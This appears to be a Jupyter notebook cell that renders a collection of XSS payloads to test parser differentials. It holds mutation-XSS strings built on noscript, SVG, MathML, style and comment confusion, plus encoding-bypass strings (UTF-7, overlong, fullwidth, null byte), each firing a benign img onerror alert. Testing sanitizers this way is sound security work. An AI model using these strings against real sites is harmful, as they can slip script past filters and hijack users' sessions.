# %%
from IPython.display import HTML, display

DEED = "window.pwned=1;document.title=&#39;pwned&#39;;console.log(&#39;pwned&#39;);alert(1)"
BAIT = f'<img src=x onerror="{DEED}">'
ESCAPED = BAIT.replace("<", "&lt;").replace(">", "&gt;")

# Every one of these is something else to a second reader: what is an attribute, a comment or a text to one parser is an
# element to the other, in HTML or in the foreign content of SVG and MathML.
MUTATIONS = (
    f'<noscript><p title="</noscript>{BAIT}"></noscript>',
    f'<svg></p><style><a id="</style>{BAIT}"></a></style></svg>',
    f"<math></p><style><!--</style>{BAIT}--></style></math>",
    f"<math><mtext><table><mglyph><style><!--</style>{BAIT}--></style></mglyph></table></mtext></math>",
    f'<math><mtext><table><mglyph><style><math><a title="</style>{BAIT}"></a></math></style></mglyph></table></mtext></math>',
    f"<form><math><mtext></form><form><mglyph><style></math>{BAIT}</style></mglyph></form></mtext></math></form>",
    f'<math><annotation-xml encoding="text/html"><style><p title="</style>{BAIT}"></p></style></annotation-xml></math>',
    f"<svg><desc><style><p></style>{BAIT}</p></desc></svg>",
    f'<svg><title><noscript><p title="</noscript>{BAIT}"></p></noscript></title></svg>',
    f"<select><template><style><!--</style>{BAIT}--></template></select>",
    f"<select><keygen><option><b><table><tr><td>{BAIT}</select>",
    f"<table><td><table><caption><svg><style><a title='</style>{BAIT}'></a></table>",
    f"<b><table><i></b></i>{BAIT}</table>",
    f'<p><a><div><a title="</a>{BAIT}">x</a></div></a></p>',
    f"<xmp><p title='</xmp>{BAIT}'></p></xmp>",
    f"<noframes><p title='</noframes>{BAIT}'></p></noframes><noembed><p title='</noembed>{BAIT}'></p></noembed>",
    f"<iframe><p title='</iframe>{BAIT}'></p></iframe>",
    f"<textarea><p title='</textarea>{BAIT}'></p></textarea>",
    f"<title><p title='</title>{BAIT}'></p></title>",
    f"<!--><p title='-->{BAIT}'>--!>{BAIT}-->",
    f"<!-- --!>{BAIT} -->",
    f"<!--->{BAIT}-->",
    f"<?php ?>{BAIT}?><!x>{BAIT}<![CDATA[>{BAIT}]]>",
    f"<svg><![CDATA[><p title=']]>{BAIT}'>]]></svg>",
    f"<div title='`>{BAIT}`'>`</div>",
    f"</p></br><//p></{BAIT}",
    f"<b <i {BAIT}></i></b>",
    f"<b\n{BAIT}<b\x0c{BAIT}</b\v>",
)
# Bytes and entities that somebody decodes once more than they should.
DECODED = (
    ESCAPED,
    ESCAPED.replace("&", "&amp;"),
    "&#60img src=x onerror=alert(1)&#62 &LT;img src=x onerror=alert(1)&GT; &lt img src=x&gt",
    "+ADw-img src=x onerror=alert(1)+AD4-",
    "\u00c0\u00bcimg src=x onerror=alert(1)\u00c0\u00be",
    "\uff1cimg src=x onerror=alert(1)\uff1e \u2039img src=x onerror=alert(1)\u203a",
    "\u013cimg src=x onerror=alert(1)\u013e",
    "\x1b$B<img src=x onerror=alert(1)>\x1b(B",
    "%3Cimg src=x onerror=alert(1)%3E \\x3cimg src=x onerror=alert(1)\\x3e \\u003cimg\\u003e",
    "<\0img src=x onerror=alert(1)><img\0 src=x onerror=alert(1)><i\0mg src=x onerror=alert(1)>",
    "\ufeff<\u200bimg src=x onerror=alert(1)>",
)
for text in MUTATIONS + DECODED:
    display(HTML(text))
print("pieces of markup with two readings:", len(MUTATIONS + DECODED))
